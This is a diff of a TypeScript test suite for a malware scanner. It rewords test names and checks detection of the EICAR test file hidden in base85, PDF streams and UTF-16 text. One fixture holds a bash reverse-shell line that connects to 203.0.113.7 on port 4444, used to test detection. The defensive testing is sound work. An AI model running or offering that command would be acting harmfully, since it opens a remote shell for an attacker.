@@ -16,7 +16,7 @@ import { httpMessages } from './http-messages.ts';
 import { isNumpy } from './numpy.ts';
 import { isPickle } from './pickle.ts';
 
-// Objects and arrays that Python saves, what goes over a network in pieces, and base85 that nothing names.
+// Objects and arrays that Python saves, network traffic in pieces, and base85 without a mark.
 
 const folder = mkdtempSync(join(tmpdir(), 'palisade-saved-'));
 afterAll(() => rmSync(folder, { recursive: true, force: true }));
@@ -30,14 +30,14 @@ async function examined(bytes: Buffer, name = 'file'): Promise<Examination> {
 const latin = (text: string) => Buffer.from(text, 'latin1');
 const WORDS = latin('Words that nobody needs to read.\n'.repeat(20));
 
-describe('what programs of Python and of networks wrote', () => {
+describe('output of Python programs and network tools', () => {
   test.each([...SAVED_VALUES])('is read: %s', async (_, bytes) => {
     const { threat, unread } = await examined(bytes);
     expect([typeof threat, unread]).toEqual(['string', []]);
   });
 });
 
-describe('what looks alike is none of them', () => {
+describe('similar files of other kinds', () => {
   test.each([
     ['a list of words', 'cat\ndog\nItem one\nplus two\n.'],
     ['a letter in brackets', '(the first of them)\np1 is the second.\n'],
@@ -114,7 +114,7 @@ describe('messages of HTTP', () => {
     ]);
   });
 
-  test('that claim too much have what is there, and a text that begins alike is none', () => {
+  test('have their actual bytes in spite of larger claims, and similar text is none', () => {
     const claims = latin('HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\nabc');
     expect(httpMessages(claims, new Budget(SCAN_LIMITS, 1024))?.bodies).toMatchObject([{ bytes: latin('abc') }]);
     expect(
@@ -182,14 +182,14 @@ describe('base85 that nothing names', () => {
     expect(await examined(file)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
   });
 
-  test('is not seen in what programs are full of', async () => {
+  test('is not seen in common content of programs', async () => {
     const address = `https://example.com/A/b/${'Some-Path_1/'.repeat(20)}?q=1&r=Two`;
     const program = `a.b=function(c){return{D:c.E,F:[1,2],G:"H"}};`.repeat(50);
     expect(await examined(latin(`${address}\n${program}\n`))).toMatchObject({ threat: null, unread: [], notes: [] });
   });
 });
 
-describe('what is written as letters in a stream of a PDF', () => {
+describe('files written as letters in a stream of a PDF', () => {
   const zipped = zip([{ name: 'eicar.com', content: EICAR }]);
   const base64 = zipped.toString('base64');
   const pdf = (stream: Buffer, filter = '') =>
@@ -214,7 +214,7 @@ describe('what is written as letters in a stream of a PDF', () => {
   });
 });
 
-describe('a text of wide letters amid other bytes', () => {
+describe('a text of wide letters between other bytes', () => {
   const LINE = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # and some words behind it\n';
   const wide = (width: number, is_big: boolean) =>
     Buffer.concat(
@@ -238,7 +238,7 @@ describe('a text of wide letters amid other bytes', () => {
     }
   });
 
-  test('is read as what is written in it', async () => {
+  test('is read as the file that is written in it', async () => {
     const letters = Buffer.from(zip([{ name: 'eicar.com', content: EICAR }]).toString('base64'), 'utf16le');
     const file = Buffer.concat([latin('\x93\x01'), noise(300), letters, noise(300)]);
     expect(await examined(file)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
